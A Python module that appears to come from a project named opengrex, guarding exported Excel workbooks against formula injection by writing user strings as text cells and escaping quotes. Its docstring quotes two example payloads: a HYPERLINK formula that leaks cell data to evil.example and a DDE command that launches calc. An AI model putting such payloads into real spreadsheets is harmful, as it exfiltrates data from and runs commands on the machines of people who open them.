"""One way to write cells in every workbook opengrex exports: text from users is always a text cell.

openpyxl turns any string that starts with ``=`` into a live formula, so a project named
``=HYPERLINK("http://evil.example/?x="&A1,"Klik")`` or ``=cmd|' /C calc'!A0`` would run when the workbook is
opened. Here a string is always text; only a :class:`Formula` (which opengrex builds itself) becomes a formula.
Text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return also gets Excel's quote prefix, so
editing the cell in Excel or LibreOffice keeps it text. User text inside a formula goes through
:func:`formula_text` (quotes doubled).

>>> from openpyxl import Workbook
>>> ws = Workbook().active
>>> put(ws, 1, 1, "=1+1").data_type, put(ws, 1, 2, Formula("=1+1")).data_type
('s', 'f')
"""
from __future__ import annotations

import math
import threading
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from typing import Any

RISKY_START = ("=", "+", "-", "@", "\t", "\r", "\n")
"""Leading characters that make a spreadsheet treat typed text as a formula (OWASP: CSV/formula injection)."""


class Formula(str):
    """A formula opengrex writes itself (``Formula("=SUM(A1:A3)")``); any other string is written as text."""


def text_cell(ws: Any, row: int, column: int, value: Any):
    """Write ``value`` as a text cell (``None`` stays empty); returns the cell."""
    c = ws.cell(row=row, column=column)
    if value is None:
        return c
    text = value if isinstance(value, str) else str(value)
    c.value = text
    c.data_type = "s"
    if text.startswith(RISKY_START):
        c.quotePrefix = True
    return c


def put(ws: Any, row: int, column: int, value: Any):
    """Write any value: a :class:`Formula` as a formula, other strings as text, numbers/dates/None as they are."""
    if isinstance(value, Formula):
        c = ws.cell(row=row, column=column, value=str(value))
        return c
    if isinstance(value, str):
        return text_cell(ws, row, column, value)
    return ws.cell(row=row, column=column, value=value)


def append_row(ws: Any, values: Iterable[Any]) -> int:
    """Like ``ws.append(values)``, but every string is text unless it is a :class:`Formula`; returns the row."""
    row = ws._current_row + 1  # where openpyxl's own append would write
    for j, v in enumerate(values, start=1):
        put(ws, row, j, v)
    ws._current_row = row  # an empty row still takes its place, as with append
    return row


def formula_text(text: str) -> str:
    """``text`` as a string literal inside a formula (``"a""b"``): it can end neither the string nor the formula."""
    return '"' + str(text).replace('"', '""') + '"'


_SAVE_LOCK = threading.Lock()


@contextmanager
def _exact_numbers() -> Iterator[None]:
    """openpyxl writes numbers as ``%.16g``, which changes the last digit of some floats (0.24604141291108406 is
    written as 0.2460414129110841); while saving, floats are written as ``repr`` (the shortest text that reads back
    as the same float64), so a downloaded workbook uploaded back holds exactly the document's numbers."""
    import openpyxl.cell._writer as writer

    original = writer.safe_string

    def exact(value: Any) -> str:
        if isinstance(value, float) and math.isfinite(value):
            return repr(value)
        return original(value)

    with _SAVE_LOCK:
        writer.safe_string = exact
        try:
            yield
        finally:
            writer.safe_string = original


def save_workbook(wb: Any, target: Any) -> None:
    """``wb.save(target)`` (a path or a binary file object) with every float written exactly."""
    with _exact_numbers():
        wb.save(target)
